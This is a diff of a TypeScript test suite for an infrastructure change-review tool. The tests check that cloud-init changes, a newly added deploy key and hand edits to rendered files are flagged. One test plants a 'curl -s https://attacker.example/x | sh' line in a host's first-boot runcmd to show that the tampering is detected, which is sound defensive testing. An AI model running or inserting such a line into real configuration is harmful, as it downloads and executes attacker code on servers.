@@ -4,6 +4,7 @@ import { simpleGit } from 'simple-git';
 import { generateKeyPair } from '../../bench/generateTopology.mjs';
 import { afterEach, beforeEach, describe, expect, test } from 'vitest';
 import type { Review } from '../../src/review/buildReview.js';
+import { newSshPublicKey } from '../support/sshKeys.js';
 import { TempRepo } from '../support/tempRepo.js';
 
 // A real WireGuard public key (public keys are fine to commit; private keys never are).
@@ -39,7 +40,7 @@ const hostOf = (review: Review, name: string) => review.hosts.find((h) => h.host
 const risks = (review: Review) => review.risks.map((r) => r.code);
 
 describe('fortress diff --base', () => {
-  test('add a host: the new spoke, the hub gains a peer live, its site tfvars change', async () => {
+  test("add a host: the new spoke, the hub gains a peer live, the tfvars of its site and of the hub's change", async () => {
     const review = await reviewChange((t) =>
       t.replace('services:', `  lon-app-02:\n    site: london\n    roles: [app]\n    publicKey: ${NEW_KEY}\n\nservices:`),
     );
@@ -57,12 +58,14 @@ describe('fortress diff --base', () => {
     });
     expect(hostOf(review, 'oslo-db-02')).toMatchObject({ disruption: 'live', summary: ['firewall postgres: client hosts + lon-app-02 (role:app, role:database)'] });
     expect(hostOf(review, 'lon-app-02')!.files.map((f) => [f.path, f.change])).toEqual([
+      ['hosts/lon-app-02/cloud-init.yaml', 'added'],
       ['hosts/lon-app-02/etc/fortress/firewall.nft', 'added'],
       ['hosts/lon-app-02/etc/fortress/fortress-firewall.service', 'added'],
       ['hosts/lon-app-02/etc/sysctl.d/90-fortress.conf', 'added'],
       ['hosts/lon-app-02/etc/wireguard/wg0.conf', 'added'],
     ]);
-    expect(review.sites.map((s) => s.site)).toEqual(['london']);
+    // The hub's tfvars list its peers (hosts.oslo-db-01.peers, mesh.peers): the new spoke is one.
+    expect(review.sites.map((s) => s.site)).toEqual(['london', 'oslo']);
     expect(review.risks).toEqual([{ code: 'access-widened', message: 'access widened: postgres may now be reached by lon-app-02 (clients: role:app, role:database)' }]);
   });
 
@@ -123,14 +126,18 @@ describe('fortress diff --base', () => {
       ['fra-app-02', 'live', ['backend database_nodes: server fra-app-02 added (10.100.0.3:5432 backup)', 'firewall postgres: port 5432 open to role:app, role:database']],
       ['oslo-db-01', 'live', ['firewall forwards postgres to fra-app-02:5432 from role:app, role:database']],
     ]);
-    expect(hostOf(review, 'fra-app-01')!.files.map((f) => f.path)).toEqual(['hosts/fra-app-01/etc/haproxy/haproxy.cfg']);
+    expect(hostOf(review, 'fra-app-01')!.files.map((f) => f.path)).toEqual(['hosts/fra-app-01/cloud-init.yaml', 'hosts/fra-app-01/etc/haproxy/haproxy.cfg']);
     expect(risks(review)).toEqual([]);
   });
 
   test('change a sysctl default: every host, live', async () => {
     const review = await reviewChange((t) => t.replace('net.core.rmem_max: 16777216', 'net.core.rmem_max: 33554432'));
     expect(review.hosts.map((h) => [h.disruption, h.summary])).toEqual(Array(5).fill(['live', ['sysctl net.core.rmem_max 16777216 → 33554432']]));
-    expect(review.hosts[0]!.files.map((f) => [f.path, f.linesAdded, f.linesRemoved])).toEqual([['hosts/fra-app-01/etc/sysctl.d/90-fortress.conf', 1, 1]]);
+    // The first-boot user-data holds the same change: named, not diffed a second time.
+    expect(review.hosts[0]!.files.map((f) => [f.path, f.linesAdded, f.linesRemoved])).toEqual([
+      ['hosts/fra-app-01/cloud-init.yaml', 0, 0],
+      ['hosts/fra-app-01/etc/sysctl.d/90-fortress.conf', 1, 1],
+    ]);
     expect(review.sites).toEqual([]);
   });
 
@@ -209,8 +216,8 @@ describe('fortress diff --base: changes that render no file, or files no topolog
       'SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222',
       expect.stringMatching(/^SSH host key pin ssh-ed25519 SHA256:\S+ → ssh-ed25519 SHA256:\S+$/),
     ]);
-    // The firewall keeps the new SSH port open; nothing else is rendered.
-    expect(hostOf(review, 'oslo-db-01')!.files.map((f) => f.path)).toEqual(['hosts/oslo-db-01/etc/fortress/firewall.nft']);
+    // The firewall keeps the new SSH port open, and first boot sets up the new user; nothing else is rendered.
+    expect(hostOf(review, 'oslo-db-01')!.files.map((f) => f.path)).toEqual(['hosts/oslo-db-01/cloud-init.yaml', 'hosts/oslo-db-01/etc/fortress/firewall.nft']);
     expect(risks(review)).toEqual(['ssh-target-changes', 'host-key-changes']);
     expect(review.risks[0]!.message).toBe('apply connects somewhere else: oslo-db-01 SSH target deploy@192.0.2.10:22 → root@203.0.113.66:2222');
     expect(markdown).not.toContain('No change');
@@ -280,6 +287,33 @@ describe('fortress diff --base: changes that render no file, or files no topolog
     expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl vm.swappiness 10 → 5']);
     expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`)).toEqual([path]);
     expect(review.renderedWithoutTopologyChange[0]!.patch).toContain('-kernel.old_setting = 1');
+    expect(risks(review)).toEqual(['rendered-without-topology-change']);
+  });
+
+  test('a deploy key added: every first boot lets it in, running hosts are not touched, flagged', async () => {
+    const key = `${newSshPublicKey()} mallory@laptop`;
+    const review = await reviewChange((t) => t.replace('fortress-apply@acme-prod\n', `fortress-apply@acme-prod\n    - ${key}\n`));
+    expect(review.hosts.map((h) => [h.host, h.disruption, h.summary, h.files.map((f) => f.path)])).toEqual(
+      ['fra-app-01', 'fra-app-02', 'lon-app-01', 'oslo-db-01', 'oslo-db-02'].map((h) => [h, 'none', ['first-boot user-data (cloud-init.yaml) changes; running hosts are not touched'], [`hosts/${h}/cloud-init.yaml`]]),
+    );
+    expect(review.hosts[0]!.files[0]!.patch).toContain(`+      - "${key}"`);
+    expect(review.mesh).toEqual([expect.stringMatching(/^deploy key added: ssh-ed25519 SHA256:\S+ mallory@laptop$/)]);
+    expect(risks(review)).toEqual(['deploy-key-added']);
+    expect(review.risks[0]!.message).toMatch(/^a new key may log in as the deploy user \(root through sudo\) on every host that boots from its cloud-init\.yaml: ssh-ed25519 SHA256:\S+ mallory@laptop$/);
+  });
+
+  test("a hand edit of a host's cloud-init.yaml is shown in full, beside the change that explains its other lines", async () => {
+    const git = simpleGit({ baseDir: repo.dir });
+    repo.write('topology/topology.yaml', repo.read('topology/topology.yaml').replace('vm.swappiness: 10', 'vm.swappiness: 5'));
+    expect((await repo.run('render')).code).toBe(0);
+    const path = 'rendered/hosts/oslo-db-01/cloud-init.yaml';
+    repo.write(path, repo.read(path).replace('runcmd:\n', 'runcmd:\n  - curl -s https://attacker.example/x | sh\n'));
+    await git.add('.').commit('swappiness, and a little extra');
+
+    const review = JSON.parse((await repo.run('diff', '--base', 'HEAD~1', '--format', 'json')).stdout) as Review;
+    expect(hostOf(review, 'oslo-db-01')!.summary).toEqual(['sysctl vm.swappiness 10 → 5']);
+    expect(review.renderedWithoutTopologyChange.map((f) => `rendered/${f.path}`)).toEqual([path]);
+    expect(review.renderedWithoutTopologyChange[0]!.patch).toContain('+  - curl -s https://attacker.example/x | sh');
     expect(risks(review)).toEqual(['rendered-without-topology-change']);
   });
 
